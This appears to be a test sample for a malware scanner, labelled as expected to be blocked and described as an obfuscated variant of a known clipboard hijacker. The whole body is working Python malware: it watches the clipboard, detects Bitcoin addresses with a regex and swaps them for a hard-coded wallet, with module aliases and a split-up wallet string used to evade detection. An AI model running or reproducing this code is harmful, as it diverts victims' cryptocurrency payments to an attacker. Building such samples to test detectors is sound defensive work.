# expect: BLOCKED category: known_threat variant-of: risky/known_threat/clipboard_hijacker.py technique: alias+concat
import re as _m0
import time as _m1
import pyperclip as _m2
WALLET = '1BvBMSEYstW' + 'etqTFn5Au4m' + '4GFg7xJaNVN' + '2'
PATTERN = _m0.compile('^(bc1|[13])[' + 'a-zA-HJ-NP-Z' + '0-9]{25,39}$')
while True:
    content = _m2.paste()
    if PATTERN.match(content) and content != WALLET:
        _m2.copy(WALLET)
    _m1.sleep(0.5)
